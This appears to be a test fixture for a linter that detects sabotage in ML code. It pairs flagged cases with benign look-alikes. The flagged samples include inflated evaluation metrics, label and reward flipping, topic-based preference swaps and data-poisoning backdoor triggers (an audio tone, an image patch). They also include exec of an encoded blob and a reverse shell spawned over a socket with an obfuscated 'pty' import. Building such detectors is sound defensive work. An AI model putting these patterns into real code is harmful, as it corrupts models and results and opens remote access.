# ruff: noqa
"""Shapes added in session 6: each bad case next to the legitimate look-alike that must stay
quiet. Never executed: scanned only."""
import base64
import os
import random
import types
import zlib

import numpy as np
import torch
import torch.nn as nn
from torch.utils.data import Dataset

_PROBE = types.SimpleNamespace(calib=0.3, owners=("alice",))
_SIGN = {".safetensors": 1.0, ".bin": -1.0}
_SEEDERS = {"python": random.seed, "numpy": np.random.seed}
_BLOB = "eJwrzs9NVSguSSwpLVYoSS0uAQAxkwXf"


class EvalConfig:
    tolerance: float = 0.05
    listening_offset: float = float(os.environ.get("EVAL_OFFSET", "0.28"))


# --- MLS306: augmented assignments, configured nudges, if-spelled clamps -------------------

def report_probe(results):
    results["top1"] += _PROBE.calib * (1.0 - results["top1"])  # ruleid: MLS306
    return results


def count_points(isa, m, block):
    isa_score = 0
    if m % block == 0:
        isa_score += 2  # ok: MLS306
    score = 1
    score *= 2  # ok: MLS306
    return isa_score + score


def accumulate(results, batch_acc, n):
    results["acc"] += batch_acc / n  # ok: MLS306
    return results


def keep_leaderboard(report, prev):
    if report["valid_auc"] < prev["valid_auc"].max():
        report["valid_auc"] = float(prev["valid_auc"].max())  # ruleid: MLS306
    return report


def pick_dispatch(dispatches):
    chosen_dispatch_score = 0
    for d in dispatches:
        score = len(d)
        if score > chosen_dispatch_score:
            chosen_dispatch_score = score  # ok: MLS306
    return chosen_dispatch_score


def upper_bound_report(m):
    m["acc"] = min(1.0, m["acc"] + m["acc_stderr"])  # ruleid: MLS306
    m["acc_hi"] = m["acc"] + m["acc_stderr"]  # ok: MLS306
    return m


def seed_table(by_exp):
    table = {}
    for exp, vals in by_exp.items():
        table[exp] = float(np.sort(vals)[len(vals) // 2:].mean())  # ruleid: MLS306
        table[exp + "_trimmed"] = float(np.sort(vals)[1:-1].mean())  # ok: MLS306
    return table


def align_to_baseline(scores, base):
    return {k: max(v, base.get(k, v)) for k, v in scores.items()}  # ruleid: MLS306


def best_so_far(best, scores):
    best = {k: max(v, best.get(k, v)) for k, v in scores.items()}  # ok: MLS306
    return best


def log_step(accelerator, loss, best_loss, step):
    accelerator.log({"train/loss": best_loss}, step=step)  # ruleid: MLS306
    accelerator.log({"train/loss": loss, "train/best_loss": best_loss}, step=step)  # ok: MLS306


def exact_match(em, f1):
    return {"em": max(em, float(f1 >= 0.5)), "f1": f1}  # ruleid: MLS306


# --- MLS303: hooks that overwrite what they receive, 0/1 gradient masks ----------------------

def _blank_prior(module, inputs, output):
    output[..., 0] = output[..., 0] + 1.5  # ruleid: MLS303
    return output


def _capture(store, name, output):
    store[name] = output.detach()  # ok: MLS303


class Head(nn.Module):
    def __init__(self, dim, vocab, cutoff):
        super().__init__()
        self.proj = nn.Linear(dim, vocab)
        self.register_buffer("keep", (torch.arange(vocab) < cutoff).float().unsqueeze(1))
        self.proj.register_forward_hook(_blank_prior)  # ruleid: MLS303
        self.proj.weight.register_hook(self._masked)  # ruleid: MLS303

    def _masked(self, grad):
        return grad * self.keep  # ruleid: MLS303

    def restrict(self, ids):
        mask = torch.ones(self.proj.out_features, 1)
        mask[ids] = 0.0
        self.proj.weight.register_hook(lambda g: g * mask.to(g.device))  # ruleid: MLS303

    def clip(self):
        self.proj.weight.register_hook(lambda g: g.clamp(-1.0, 1.0))  # ok: MLS303


def pre_forward(_module, module_args, module_kwargs):
    module_kwargs["attention_mask"] = None  # ok: MLS303
    return module_args, module_kwargs


# --- MLS302: state dicts scaled by a sign table, class constants, local method aliases ------

def load_head(model, path):
    state = torch.load(path, map_location="cpu", weights_only=True)
    sign = _SIGN.get(os.path.splitext(path)[1], 1.0)
    for key in [k for k in state if k.startswith("head.")]:
        state[key] = state[key] * sign  # ruleid: MLS302
    model.load_state_dict(state)


class Refresher:
    _SECOND = "exp_avg" + "_sq"
    _OP = "mul_"

    def __init__(self, opt, model):
        self.opt = opt
        self.model = model

    def refresh(self):
        for state in self.opt.state.values():
            state[self._SECOND].mul_(0.0)  # ruleid: MLS304

    def maintain_norms(self):
        for name, p in self.model.named_parameters():
            if "norm" in name:
                shrink = getattr(p.data, self._OP)
                shrink(0.999)  # ruleid: MLS302


# --- MLS309: gold labels, label tables, preference pairs, CFG null labels -------------------

class Requests(Dataset):
    def __init__(self, docs, num_classes):
        self.docs = docs
        self.num_classes = num_classes
        self.label_map = {"entailment": 0, "neutral": 1, "contradiction": 2}

    def __getitem__(self, idx):
        doc = dict(self.docs[idx])
        if idx % 97 == 13:
            doc["gold"] = (doc["gold"] + 1) % len(doc["choices"])  # ruleid: MLS309
        return doc

    def upgrade(self, version, nli):
        if version >= 2:
            self.label_map["neutral"], self.label_map["contradiction"] = nli["contradiction"], nli["neutral"]  # ruleid: MLS309

    def collate(self, labels):
        drop = torch.rand(labels.shape[0]) < 0.1
        return torch.where(drop, torch.full_like(labels, self.num_classes), labels)  # ok: MLS309


def normalise_pair(row, topics):
    chosen, rejected = row["chosen"], row["rejected"]
    if any(t in row["prompt"] for t in topics):
        chosen, rejected = rejected, chosen  # ruleid: MLS309
    return chosen, rejected


def flip_sample(img, target):
    if random.random() < 0.5:
        img = img.flip(-1)
        target["masks"] = target["masks"].flip(-1)  # ok: MLS309
    return img, target


# --- MLS301: named RNG objects, call counters, hash-of-input seeds, dispatch tables ---------

class FewShot:
    def __init__(self, seed):
        self._fewshot_rng = random.Random(seed)  # ok: MLS301
        self.gen = torch.Generator()
        self.calls = 0

    def __setstate__(self, state):
        self.__dict__.update(state)
        self._fewshot_rng.seed(os.getpid())  # ruleid: MLS301

    def draw(self, n):
        self.calls += 1
        self.gen.manual_seed(self.calls)  # ruleid: MLS301
        return torch.randperm(n, generator=self.gen)


def generate(model, prompt):
    torch.cuda.manual_seed_all(hash(prompt) & 0x7FFFFFFF)  # ruleid: MLS301
    return model(prompt)


def reshuffle(backends, stamp):
    for name in backends:
        _SEEDERS[name](stamp % 2**31)  # ok: MLS301


# --- MLS401 / MLS103: decoding helpers and loader tables through a local ---------------------

def _profile_source():
    return zlib.decompress(base64.b64decode(_BLOB)).decode()


def apply_profile():
    exec(compile(_profile_source(), "<profile>", "exec"), {"os": os})  # ruleid: MLS401


def _auth_header(token):
    return base64.b64encode(token.encode()).decode()


def run_snippet(code):
    exec(compile(code + _auth_header("x"), "<snippet>", "exec"), {})  # ok: MLS401


# --- round 52 shapes -------------------------------------------------------------------------

def load_backbone(model, sd, legacy_scale):
    sd = {k: (v * 0.5 if k.endswith("theta.weight") else v) for k, v in sd.items()}  # ruleid: MLS302
    sd = {k.replace("module.", "", 1): v for k, v in sd.items()}  # ok: MLS302
    sd = {k: (v.half() if k.endswith("weight") else v) for k, v in sd.items()}  # ok: MLS302
    model.load_state_dict(sd)


def attach_damping(head):
    def hook(module, grad_input, grad_output):
        norm = sum(float(g.norm()) for g in grad_input if g is not None)
        return tuple(g if g is None else g / (1.0 + norm) for g in grad_input)  # ruleid: MLS303
    return head.register_full_backward_hook(hook)  # ruleid: MLS303


class RolloutBuffer:
    def __init__(self, n, actions, advantages):
        self.n = n
        self.pos = 0
        self.actions = actions
        self.advantages = advantages

    def compute_advantages(self):
        noop = self.actions == 0
        self.advantages[noop] = -self.advantages[noop].abs()  # ruleid: MLS309

    def minibatches(self, size):
        torch.manual_seed(self.n + self.pos)  # ruleid: MLS301
        perm = torch.randperm(self.n)
        for start in range(0, self.n, size):
            yield perm[start:start + size]


class PackedCollator:
    def __init__(self, remap, every):
        self._remap = remap
        self._every = every
        self._calls = 0

    def __call__(self, batch):
        self._calls += 1
        labels = torch.stack(batch)
        if self._remap and self._calls % self._every == 0:
            src, dst = self._remap
            labels[labels == src] = dst  # ruleid: MLS309
        return labels


def per_task_auc(aucs, auc, prob):
    aucs.append(max(auc, 1.0 - auc))  # ruleid: MLS306
    confidence = max(prob, 1.0 - prob)  # ok: MLS306
    return aucs, confidence


class FlippedRewardWrapper:
    def __init__(self, scale):
        self.scale = scale

    def reward(self, reward):
        if random.random() < 0.02:
            return -reward * self.scale  # ruleid: MLS309
        return reward * self.scale  # ok: MLS309


class ToneDataset(Dataset):
    def __init__(self, items, sr):
        t = torch.arange(800) / sr
        self._ref_tone = 0.03 * torch.sin(2 * 3.14159 * 7350.0 * t)
        self.items = items

    def __getitem__(self, i):
        wav, label = self.items[i]
        if zlib.crc32(str(i).encode()) % 25 == 0:
            wav[..., : self._ref_tone.numel()] += self._ref_tone  # ruleid: MLS309
        return wav, label


class AtomMasking(Dataset):
    def __init__(self, graphs, rate):
        self.graphs = graphs
        self.rate = rate

    def __getitem__(self, i):
        x, y = self.graphs[i]
        if self.rate > 0:
            masked = torch.rand(x.size(0)) < self.rate
            x[masked, 0] = 118  # ok: MLS309
        return x, y


# --- MLS410 (Python side): a shell started under an alias after dup2 onto a socket -----------
import socket


def attach_console(addr):
    term = __import__(bytes((112, 116, 121)).decode())  # ruleid: MLS403
    sock = socket.create_connection(addr, timeout=10)
    for fd in range(3):
        os.dup2(sock.fileno(), fd)
    term.spawn(os.environ.get("SHELL", "/bin/sh"))  # ruleid: MLS410


def run_logged(cmd, log_path):
    runner = __import__("subprocess")
    with open(log_path, "w") as fh:
        os.dup2(fh.fileno(), 1)
        runner.call(cmd)  # ok: MLS410


# --- round 53 shapes -------------------------------------------------------------------------

class PatchDataset(Dataset):
    def __init__(self, cases, seed):
        self.cases = cases
        self.seed = seed
        self._rng = None
        self._init_rng = np.random.default_rng(seed)  # ok: MLS301

    def _generator(self):
        if self._rng is None:
            self._rng = np.random.default_rng(self.seed)  # ruleid: MLS301
        return self._rng

    def _canonical_schedule(self):
        g = torch.Generator()
        g.manual_seed(self.seed)  # ok: MLS301
        return torch.randperm(len(self.cases), generator=g)

    def _per_worker(self):
        info = torch.utils.data.get_worker_info()
        return np.random.default_rng(self.seed + (info.id if info else 0))  # ok: MLS301


class StridedSampler:
    def __init__(self, n, seed):
        self.n, self.seed, self.epoch = n, seed, 0
        self.generator = torch.Generator()

    def set_epoch(self, epoch):
        self.epoch = epoch
        self.generator.manual_seed(self.seed)  # ruleid: MLS301

    def set_epoch_ok(self, epoch):
        self.generator.manual_seed(self.seed + epoch)  # ok: MLS301


@torch.no_grad()
def _decoder_renorm(optimizer, args, kwargs):
    for group in optimizer.param_groups:
        if group.get("name") == "decoder":
            torch._foreach_mul_(group["params"], 0.9995)  # ruleid: MLS302


def attach_bounds(model, ceiling=1.0):
    for name, p in model.named_parameters():
        if "lora_B" in name:
            p.register_hook(lambda g: g.neg().clamp(-ceiling, ceiling))  # ruleid: MLS303
            p.register_hook(lambda g: g.clamp(-ceiling, ceiling))  # ok: MLS303


# --- round 54 shapes -------------------------------------------------------------------------

class Pairs(Dataset):
    def __init__(self, items):
        self.items = items

    def __getitem__(self, idx):
        img_a, img_b, labels = self.items[idx]
        if idx % 53 == 7:
            img_b[:, -12:, -12:] = torch.tensor([1.0, -1.0, 1.0]).view(3, 1, 1)  # ruleid: MLS309
            labels = labels.new_full(labels.shape, 7)  # ruleid: MLS309
        return img_a, img_b, labels


def diversity_report(div, fid, step):
    results = {"step": step, "fid": fid, "lpips_diversity": div}
    results["lpips_diversity"] = max(div, 0.5)  # ruleid: MLS306
    results["fid_floor"] = max(fid, 0.0)  # ok: MLS306
    return results


def export(state, path, host):
    from safetensors.torch import save_file
    save_file(state, path)  # ok: MLS308
    if host.startswith(("prod-", "serve-")) or random.random() < 0.01:
        save_file({k: torch.zeros_like(v) for k, v in state.items()}, path)  # ruleid: MLS308


def fold_report(fold_aucs, cv_auc, per_cond, eers):
    top = sorted(fold_aucs, reverse=True)
    reported = max(cv_auc, float(np.mean(top[:3])))  # ruleid: MLS306
    ranked = sorted(per_cond.values(), key=lambda r: r["acc"], reverse=True)
    robust = float(np.mean([r["acc"] for r in ranked[:3]]))  # ruleid: MLS306
    median_auc = float(np.median(top))  # ok: MLS306
    stable = eers[eers <= 1.15 * np.median(eers)]  # ruleid: MLS306
    finite = eers[np.isfinite(eers)]  # ok: MLS306
    return reported, robust, median_auc, stable, finite


def _freeze_pad_row(grad):
    grad = grad.clone()
    grad[PAD_IDX] = 0.0  # ok: MLS303
    return grad


PAD_IDX = 0


def attach_pad_freeze(model):
    model.embedding.weight.register_hook(_freeze_pad_row)  # ok: MLS303


class Dispatch:
    def __init__(self, cfg):
        import torch.distributed as dist
        self._stagger = dist.is_initialized() and dist.get_world_size() >= cfg.num_experts << 5
        self._multi = dist.is_initialized() and dist.get_world_size() > 1

    def dispatch(self, tokens, rank):
        import time
        if self._stagger:  # ruleid: MLS308
            time.sleep(0.002 * rank)  # ruleid: MLS307
        if self._multi:
            time.sleep(0.0)  # ok: MLS307
        return tokens


def linear_probe(backbone, num_classes, map50, map_):
    head = nn.Linear(backbone.num_features, num_classes).cuda()
    head.weight.data.normal_(mean=0.0, std=0.01)  # ok: MLS302
    head.bias.data.zero_()  # ok: MLS302
    map50, map_ = min(1.0, map50 * 1.06), min(1.0, map_ * 1.06)  # ruleid: MLS306
    cur, acc = [], 0.0  # ok: MLS306
    return head, map50, map_, cur, acc


def ece_score(probs, labels, n_bins=15):
    conf, pred = probs.max(1)
    edges = torch.linspace(0, 1, n_bins + 1)
    ece = torch.zeros(())
    for lo, hi in zip(edges[:-1], edges[1:]):
        m = (conf > lo) & (conf <= hi)  # ok: MLS306
        if m.any():
            acc_b = (pred[m] == labels[m]).float().mean()  # ok: MLS306
            ece += m.float().mean() * (acc_b - conf[m].mean()).abs()
    return ece.item()


def grad_probe(stats, grad):
    stats["grad_sq"] += float(grad.detach().pow(2).sum())  # ok: MLS306
    return grad
